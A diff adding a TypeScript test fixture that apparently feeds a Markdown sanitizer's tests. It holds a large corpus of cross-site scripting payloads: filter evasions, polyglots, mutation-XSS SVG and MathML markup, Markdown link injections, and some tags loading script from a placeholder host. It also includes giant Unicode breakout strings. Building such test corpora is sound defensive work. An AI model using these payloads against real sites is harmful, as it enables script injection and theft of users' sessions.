@@ -1,0 +1,155 @@
+const mark = 'window.__xss=1';
+const encoded = Array.from(mark, (letter) => `&#${letter.charCodeAt(0)};`).join('');
+const hex = Array.from(mark, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join('');
+
+/** Ways around filters, after the OWASP cheat sheet's classes: quotes, case, entities, blanks, broken tags, odd handlers. */
+const evasions: readonly string[] = [
+  `<IMG SRC="javascript:${mark};">`,
+  `<IMG SRC=javascript:${mark}>`,
+  `<IMG SRC=\`javascript:${mark}\`>`,
+  `<IMG """><SCRIPT>${mark}</SCRIPT>">`,
+  `<IMG SRC=# onmouseover="${mark}">`,
+  `<IMG SRC= onmouseover="${mark}">`,
+  `<IMG onmouseover="${mark}">`,
+  `<IMG SRC=/ onerror="${mark}"></img>`,
+  `<img src=x onerror="${encoded}">`,
+  `<IMG SRC=${encoded}>`,
+  `<IMG SRC=${hex}>`,
+  `<IMG SRC="jav\tascript:${mark};">`,
+  `<IMG SRC="jav&#x09;ascript:${mark};">`,
+  `<IMG SRC="jav&#x0A;ascript:${mark};">`,
+  `<IMG SRC=" &#14; javascript:${mark};">`,
+  `<SCRIPT/XSS SRC="https://elsewhere.example/xss.js"></SCRIPT>`,
+  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${mark}>`,
+  `<SCRIPT/SRC="https://elsewhere.example/xss.js"></SCRIPT>`,
+  `<<SCRIPT>${mark};//\\<</SCRIPT>`,
+  `<SCRIPT SRC=https://elsewhere.example/xss.js?< B >`,
+  `<SCRIPT SRC=//elsewhere.example/.j>`,
+  `<IMG SRC="\`<javascript:${mark}>"\``,
+  `\\";${mark};//`,
+  `</TITLE><SCRIPT>${mark};</SCRIPT>`,
+  `<INPUT TYPE="IMAGE" SRC="javascript:${mark};">`,
+  `<BODY BACKGROUND="javascript:${mark}">`,
+  `<IMG DYNSRC="javascript:${mark}">`,
+  `<STYLE>li {list-style-image: url("javascript:${mark}");}</STYLE><UL><LI>XSS</br>`,
+  `<svg/onload=${mark}>`,
+  `<BGSOUND SRC="javascript:${mark};">`,
+  `<BR SIZE="&{${mark}}">`,
+  `<LINK REL="stylesheet" HREF="javascript:${mark};">`,
+  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4x">`,
+  `<FRAMESET><FRAME SRC="javascript:${mark};"></FRAMESET>`,
+  `<TABLE BACKGROUND="javascript:${mark}">`,
+  `<DIV STYLE="background-image: url(javascript:${mark})">`,
+  `<DIV STYLE="width: expression(${mark});">`,
+  `<!--[if gte IE 4]><SCRIPT>${mark};</SCRIPT><![endif]-->`,
+  `<OBJECT TYPE="text/x-scriptlet" DATA="https://elsewhere.example/x.html"></OBJECT>`,
+  `<EMBED SRC="data:image/svg+xml;base64,PHN2Zy8+" type="image/svg+xml" AllowScriptAccess="always">`,
+  `<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:${mark};">]]></C></X></XML>`,
+  `<? echo('<SCR)'; echo('IPT>${mark}</SCRIPT>'); ?>`,
+  `<A HREF="http://0102.0146.0007.00000223/">XSS</A>`,
+  `<A HREF="h\ntt\tp://6\t6.000146.0x7.147/">XSS</A>`,
+  `<button form=f formaction="javascript:${mark}">press</button><form id=f>`,
+  `<isindex type=image src=1 onerror=${mark}>`,
+  `<input onfocus=${mark} autofocus>`,
+  `<select onfocus=${mark} autofocus>`,
+  `<keygen autofocus onfocus=${mark}>`,
+  `<div contenteditable onblur=${mark} autofocus tabindex=1>`,
+  `<x onpointerrawupdate=${mark} style=position:fixed;inset:0>`,
+  `<div popover id=p onbeforetoggle=${mark}>x</div><button popovertarget=p>press</button>`,
+  `<a href="data:text/html,<script>${mark}</script>" ping="https://elsewhere.example/">press</a>`,
+];
+
+/** Texts made to end whatever they stand in: script, attribute, comment, style, template. */
+const polyglots: readonly string[] = [
+  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${mark} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${mark}//>\\x3e`,
+  `'">><marquee><img src=x onerror=${mark}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${mark}><script>${mark}</script>@gmail.com<isindex formaction=javascript:${mark} type=submit>'-->"></script><script>${mark}</script>`,
+  `" onclick=${mark}//<button ' onclick=${mark}//> */ ${mark}//`,
+  `--></style></title></textarea></noscript></template></script><svg onload=${mark}>`,
+  `javascript://%0a${mark}//"/*\`/*'/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${mark}//>`,
+  `\${${mark}}{{${mark}}}<%=${mark}%>#{${mark}}*{${mark}}`,
+];
+
+/** Markup that is harmless when read once and harmful when written out and read again (mXSS), SVG and MathML. */
+const mutations: readonly string[] = [
+  `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${mark}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${mark} src>">`,
+  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe></foreignObject></svg>`,
+  `<svg><a xlink:href="javascript:${mark}"><text x=20 y=20>press</text></a></svg>`,
+  `<svg><set attributeName=href to="javascript:${mark}"/></svg>`,
+  `<svg><animate attributeName=href values="javascript:${mark}" begin=0s /></svg>`,
+  `<svg><script href="data:text/javascript,${mark}"/></svg>`,
+  `<svg><style>{font-family:"<iframe/onload=${mark}>"}</style></svg>`,
+  `<svg><discard onbegin=${mark}>`,
+  `<math href="javascript:${mark}">press</math>`,
+  `<math><maction actiontype="statusline#https://elsewhere.example" xlink:href="javascript:${mark}">press</maction></math>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${mark}></annotation-xml></math>`,
+  `<template shadowrootmode=open><script>${mark}</script></template>`,
+  `<textarea><script>${mark}</script></textarea><x a="</textarea><img src=x onerror=${mark}>">`,
+  `<xmp><p title="</xmp><svg/onload=${mark}>"></xmp>`,
+  `<p/ontouchstart=${mark}>a<listing>&lt;img src=x onerror=${mark}&gt;</listing>`,
+];
+
+/** What Markdown itself has been used for. */
+const ofMarkdown: readonly string[] = [
+  `[a](javascript:${mark})`,
+  `[a](JAVASCRIPT:${mark})`,
+  `[a](j a v a s c r i p t:${mark})`,
+  `[a](javascript&#58;${mark})`,
+  `[a](javascript&Tab;:${mark})`,
+  `[a](java&#10;script:${mark})`,
+  `[a](&#1;javascript:${mark})`,
+  `[a](<javascript:${mark}>)`,
+  `[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
+  `[a](vbscript:${mark})`,
+  `[a]('javascript:${mark}')`,
+  `[a]: javascript:${mark}\n\n[a]`,
+  `[a]: (javascript:${mark}//)\n\n[a] [a][a] ![a]`,
+  `![a](javascript:${mark})`,
+  `![a"onerror="${mark}](x)`,
+  `![a](https://elsewhere.example/a.png"onload="${mark})`,
+  `[a](https://example.com" onmouseover="${mark} "t")`,
+  `[a](https://example.com 'x" onmouseover="${mark}')`,
+  `[a](https://example.com\\" onclick=${mark})`,
+  `[<img src=x onerror=${mark}>](https://example.com)`,
+  `<https://example.com" onclick="${mark}>`,
+  `<javascript:${mark}>`,
+  `<&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${mark}>`,
+  `https://example.com/<script>${mark}</script>`,
+  `https://example.com/"onmouseover="${mark}`,
+  `www.example.com/'onclick='${mark}`,
+  `\`<script>${mark}</script>\``,
+  `\`\`\`"><script>${mark}</script>\n</code></pre><script>${mark}</script>\n\`\`\``,
+  `\`\`\`html onload=${mark}\n<svg onload=${mark}>\n\`\`\``,
+  `    </pre><script>${mark}</script>`,
+  `> <script>${mark}</script>\n> <img src=x onerror=${mark}>`,
+  `- <svg onload=${mark}>\n  - </li></ul><script>${mark}</script>`,
+  `# <script>${mark}</script>\n\n<script>${mark}</script>\n===`,
+  `|<img src=x onerror=${mark}>|b|\n|-|-|\n|</td><script>${mark}</script>|[a](javascript:${mark})|`,
+  `**<b onmouseover=${mark}>**_</b>_~~<s>~~`,
+  `[^1]\n\n[^1]: <script>${mark}</script>`,
+  `\\<script>${mark}</script> &lt;script&gt;${mark}&lt;/script&gt;`,
+  `<div markdown=1>[a](javascript:${mark})</div>`,
+  `[a](/tickets/1) [b](?func=logout) [c](#main) [d](../../billmgr?func=logout)`,
+  `[a](https://user:password@elsewhere.example) [b](https:/\\elsewhere.example)`,
+];
+
+/** Public forms of attack, written down as cases of our own. */
+export const xssCorpus: readonly string[] = [...evasions, ...polyglots, ...mutations, ...ofMarkdown];
+
+const zalgo = `z${'\u0335\u0321\u0489\u030d\u0334'.repeat(2000)}`;
+const turned = '\u202e\u2067\u202d\u2066\u202b turned \u200f';
+const wide = 'W'.repeat(200_000);
+
+/** What tries to leave its box: in every place that Markdown has for words. */
+export const breakouts: readonly string[] = [zalgo, turned, wide].flatMap((words) => [
+  `# ${words}`,
+  `> ${words}`,
+  `- ${words}\n  1. ${words.slice(0, 9000)}`,
+  `\`${words}\``,
+  `\`\`\`${words.slice(0, 300)}\n${words}\n\`\`\``,
+  `|${words.slice(0, 20_000)}|b|\n|-|-|\n|a|${words.slice(0, 20_000)}|`,
+  `[${words.slice(0, 20_000)}](https://example.com/${encodeURIComponent(words.slice(0, 300).toWellFormed())})`,
+  `**${words}** ~~${words.slice(0, 5000)}~~`,
+]);
